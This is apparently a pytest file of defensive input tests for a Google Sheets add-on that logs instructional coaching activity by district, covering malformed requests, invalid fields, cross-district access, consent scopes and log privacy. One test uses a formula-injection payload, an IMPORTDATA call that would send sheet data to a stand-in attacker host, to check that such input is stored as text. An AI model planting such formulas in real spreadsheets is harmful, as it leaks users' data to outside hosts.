"""Whatever is sent is refused or neutralized with the right status: nothing written, nothing told, no name in the log."""

from __future__ import annotations

import json
from datetime import date
from typing import Any

import pytest
import requests

from addon.events import EventRefused, parsed_event
from tests.addon_events import (
    ANA,
    BEN,
    SCOPES,
    Json,
    PracticeAddon,
    card_of,
    heard,
    said,
    words_of,
)

pytest_plugins = ("tests.addon_fixtures",)

NONCE = "a-nonce-of-a-test-0001"
GOOD = {
    "school": "Lincoln",
    "activity": "Co-Planning",
    "minutes": "45",
    "focus_area": "Digital Equity",
}


def logging(addon: PracticeAddon, **changed: Any) -> Json:
    inputs = {"day": addon.program.today, **GOOD, **changed}
    return addon.act("log", ANA, "D1", inputs, {"nonce": NONCE})


def number_of_rows(addon: PracticeAddon, key: str = "D1") -> int:
    return len(addon.program.rows(key, "activity_log", "date"))


def test_a_body_of_five_megabytes_is_not_read(addon: PracticeAddon) -> None:
    """256 KB are the most that a card can send."""
    event = addon.event(ANA, "D1", {"note": "x" * 5_000_000})
    assert addon.send("/sheets/act/log", event).status_code == 413


def test_what_is_no_event_is_refused(addon: PracticeAddon) -> None:
    """Deep JSON, no JSON, and JSON of another shape: 400, and nothing of it in the answer."""
    headers = {"Authorization": f"Bearer {addon.system_token('/sheets/home')}"}
    for body in (b"[" * 60_000, b'{"a":' * 40_000, b"", b"null", b"[]", b"<html>", b"\xff\xfe", b'{"sheets": 7}'):
        answer = requests.post(f"{addon.url}/sheets/home", data=body, headers=headers, timeout=30)
        assert (body[:10], answer.status_code) == (body[:10], 400)
        assert "Traceback" not in answer.text


@pytest.mark.parametrize(
    "inputs",
    [
        {"minutes": {"stringInputs": {"value": "45"}}},
        {"minutes": {"stringInputs": {"value": [45]}}},
        {"minutes": {"stringInputs": ["45"]}},
        {"minutes": 45},
        {"day": {"dateInput": {"msSinceEpoch": [1]}}},
    ],
)
def test_wrong_types_in_fields_are_refused(inputs: Json) -> None:
    """The event says so; no field is guessed."""
    with pytest.raises(EventRefused):
        parsed_event(json.dumps({"commonEventObject": {"formInputs": inputs}}).encode())


@pytest.mark.parametrize("sent", ["2025-10-31", "", "1e9", "99999999999999999999", "true", None, 10**14])
def test_a_date_that_is_no_number_comes_back_as_a_question(addon: PracticeAddon, sent: Any) -> None:
    """The card says to choose the day, and what else was typed stands there still."""
    answer = logging(addon, day={"dateInput": {"msSinceEpoch": sent}}, note="kept")
    assert said(answer) == "Not logged yet."
    assert "Choose the day" in words_of(card_of(answer)) or "outside the school year" in words_of(card_of(answer))
    assert number_of_rows(addon) == 4


@pytest.mark.parametrize(
    ("changed", "told"),
    [
        ({"minutes": ""}, "Type the minutes"),
        ({"minutes": "soon"}, "cannot be read"),
        ({"minutes": "0"}, "zero"),
        ({"minutes": "1000"}, "more than 16 hours"),
        ({"minutes": "2"}, "minutes or hours"),
        ({"school": ""}, "Choose the school"),
        ({"school": "Oak"}, "another district"),
        ({"school": "S3"}, "school"),
        ({"activity": ""}, "Choose the activity"),
        ({"activity": "Spying"}, "activity"),
        ({"focus_area": "Astrology"}, "focus area"),
        ({"contract_day": "Three days"}, "contract day"),
        ({"delivery": "By pigeon"}, "delivery"),
        ({"funding_source": "Somebody's purse"}, "funding source"),
        ({"attendance": "12"}, "group work only"),
        ({"attendance": "-3", "activity": "Technical Training"}, "digits"),
        ({"attendance": "999999", "activity": "Technical Training"}, "number of people"),
    ],
)
def test_a_value_that_a_typed_row_would_not_be_allowed_comes_back(
    addon: PracticeAddon, changed: Json, told: str
) -> None:
    """Each is named with what to do; nothing is written, not even asked of Google."""
    addon.program.google.world.journal.reset()
    answer = logging(addon, **changed, note="my note stays")
    words = words_of(card_of(answer))
    assert told in words
    assert "sheets.spreadsheets.batchUpdate" not in addon.program.google.world.journal.counts()
    notes = [w["textInput"]["value"] for s in card_of(answer)["sections"] for w in s["widgets"] if "note" in str(w)]
    assert notes == ["my note stays"]


def test_a_date_before_the_assignment_or_in_the_future_comes_back(addon: PracticeAddon) -> None:
    """Aug 1 is before the school year, Nov 3 has not come."""
    for day, told in ((date(2025, 8, 1), "outside the school year"), (date(2025, 11, 3), "in the future")):
        assert told in words_of(card_of(logging(addon, day=day)))
    assert number_of_rows(addon) == 4


def test_formulas_and_markup_are_text(addon: PracticeAddon) -> None:
    """A formula stands in the Sheet as the text that it is; on a card markup is shown, not drawn."""
    note = '=IMPORTDATA("https://evil.example/?"&A1) <a href="x">y</a>\x00\x07'
    assert said(logging(addon, note=note)).startswith("Logged")
    noted = [row[0] for row in addon.program.rows("D1", "activity_log", "note") if row[0]]
    assert noted == ['=IMPORTDATA("https://evil.example/?"&A1) <a href="x">y</a>']
    answer = logging(addon, minutes="<b>90</b>")
    assert "<b>" not in words_of(card_of(answer)).replace("<b>90</b>", "", 1)  # only where it was typed


def test_unknown_fields_are_counted_and_not_logged(addon: PracticeAddon) -> None:
    """Their names may be anybody's words."""
    with heard() as lines:
        logging(addon, **{"__proto__": "x", "drop table": "y"})
    assert [line["unknown_fields"] for line in lines if line["event"] == "addon request"] == [2]
    assert "drop table" not in str(lines)


def test_parameters_of_another_district_change_nothing(addon: PracticeAddon) -> None:
    """Which district it is follows from the Sheet: the other district's log stays as it was."""
    sent = {"nonce": NONCE, "district": "D3", "district_id": "D3", "workbook_id": addon.program.workbooks["D3"]}
    addon.act("log", ANA, "D1", {"day": addon.program.today, **GOOD}, sent)
    assert (number_of_rows(addon, "D1"), number_of_rows(addon, "D3")) == (5, 1)


def test_a_coach_of_another_district_cannot_log(addon: PracticeAddon) -> None:
    """Ben coaches East alone. In North's Sheet he gets the card that says so; Google is not even asked."""
    addon.program.google.world.journal.reset()
    answer = addon.act("log", BEN, "D1", {"day": addon.program.today, **GOOD}, {"nonce": NONCE})
    assert "Nothing to do here" in words_of(card_of(answer))
    assert addon.program.google.world.journal.counts().keys() <= {"certs", "token", "sheets.spreadsheets.get"}
    assert number_of_rows(addon) == 4


def test_missing_parameters_are_refused(addon: PracticeAddon) -> None:
    """No nonce, no entry, no day: 400."""
    for action in ("log", "save", "delete", "log-day", "edit"):
        assert addon.send(f"/sheets/act/{action}", addon.event(ANA, "D1")).status_code == 400


def test_unknown_endpoints_are_not_there(addon: PracticeAddon) -> None:
    """404 and 405, in a few words."""
    assert addon.send("/sheets/act/format-disk", addon.event(ANA, "D1")).status_code == 404
    assert addon.send("/sheets/suggest/coach", addon.event(ANA, "D1")).status_code == 404
    assert requests.get(f"{addon.url}/sheets/home", timeout=30).status_code == 405


def test_missing_permissions_are_asked_for(addon: PracticeAddon) -> None:
    """Granular consent: what the person left out is named, and only that."""
    event = addon.event(ANA, "D1")
    event["authorizationEventObject"]["authorizedScopes"] = [SCOPES[1]]
    assert addon.send("/sheets/home", event).json() == {"requesting_google_scopes": {"scopes": [SCOPES[0]]}}


def test_before_the_first_consent_everything_is_asked_for(addon: PracticeAddon) -> None:
    """Google leaves an empty list out, and has no token of the person yet."""
    event = addon.event(ANA, "") | {"authorizationEventObject": {}}
    assert addon.send("/sheets/home", event).json() == {"requesting_google_scopes": {"scopes": list(SCOPES[:2])}}


def test_a_sheet_that_is_not_allowed_yet_is_asked_for(addon: PracticeAddon) -> None:
    """The card has one button; the button makes Google ask."""
    card = addon.home(ANA, "")
    answer = addon.click(card, "Allow this Sheet", ANA, "")
    assert answer == {"renderActions": {"hostAppAction": {"editorAction": {"requestFileScopeForActiveDocument": {}}}}}


def test_no_log_line_names_anybody(addon: PracticeAddon) -> None:
    """Not the coach, not an address, not a token, not a note."""
    with heard() as lines:
        logging(addon, note="a very private note")
        addon.home(ANA, "D1")
        addon.send("/sheets/home", addon.event(ANA, "D1"), "abc.def.ghi")
    told = str(lines)
    assert len(lines) >= 3
    for word in ("Ana", "Ruiz", "@", "ya29", "private", "abc.def", "eyJ"):
        assert word not in told


def test_a_fault_of_ours_tells_its_place_and_no_more(addon: PracticeAddon) -> None:
    """The ledger's table is gone: 500 in plain words; the log has the kind and the line, not the text."""
    with addon.program.ledger.engine.begin() as connection:
        connection.exec_driver_sql("DROP TABLE charge_bases")
    with heard() as lines:
        answer = addon.send("/sheets/home", addon.event(ANA, "D1"))
    assert answer.status_code == 500
    assert "charge_bases" not in answer.text + str(lines)
    assert [line["kind"] for line in lines if line["event"] == "addon fault"]
